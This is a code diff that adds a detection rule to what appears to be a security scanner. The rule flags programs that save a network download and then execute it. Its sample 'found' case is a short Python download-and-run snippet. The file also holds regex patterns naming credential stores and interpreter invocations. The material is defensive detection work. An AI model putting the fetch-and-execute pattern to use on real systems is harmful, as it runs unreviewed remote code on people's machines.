@@ -20,6 +20,13 @@ const SHELL: readonly Pattern[] = [
   },
   { capability: ['process.spawn'], argument: /^shell=(True|true|1)$/ },
 ];
+/** An interpreter with a file, or a program by its path. */
+const RUNS_FILE: readonly Pattern[] = [
+  {
+    capability: ['process.spawn'],
+    text: /^(sudo\s+)?(\S*\/)?((ba|da|z|k|fi)?sh|python[\d.]*|node|perl|ruby|php|source)\s+[^-\s]|^(sudo\s+)?(\.{0,2}|~)\/\S+/,
+  },
+];
 /** A key file, a key ring, a browser's store: a place of the machine or of a person, no variable that was set for the program. */
 const STORED =
   /^(\{…\})?[/~]|^[A-Za-z]:[\\/]|^(\$HOME|\$\{HOME\})|keyring|keytar|netrc|browser_cookie|CryptUnprotectData|clipboard|pyperclip|secretstorage|spwd|^\/etc\//;
@@ -221,6 +228,27 @@ export const flowRules = {
       },
     },
     when: { flow: { from: ['network-reply'], to: SHELL, part: ['target'] } },
+  },
+  'reply-as-program': {
+    severity: 'high',
+    title: 'Keeps what the network answers and runs it',
+    capability: 'process.spawn',
+    why: 'A download becomes a program without anybody having read it.',
+    cwe: ['CWE-494'],
+    attack: ['T1105', 'T1204.002'],
+    message: 'What {source} answers is run: {callee} {target}.',
+    remedy: 'Download, read, check a hash, and only then run.',
+    examples: {
+      found: {
+        language: 'python',
+        code: "import requests, subprocess\n\nwith open('/tmp/next.sh', 'wb') as f:\n    f.write(requests.get('https://cdn.example/next').content)\nsubprocess.run(['bash', '/tmp/next.sh'])",
+      },
+      ordinary: {
+        language: 'python',
+        code: "import requests, subprocess\n\nwith open('/tmp/next.csv', 'wb') as f:\n    f.write(requests.get('https://cdn.example/next').content)\nsubprocess.run(['bash', './report.sh'])",
+      },
+    },
+    when: { flow: { from: ['network-reply'], to: RUNS_FILE, part: ['target'] } },
   },
   'reply-deserialized': {
     severity: 'high',
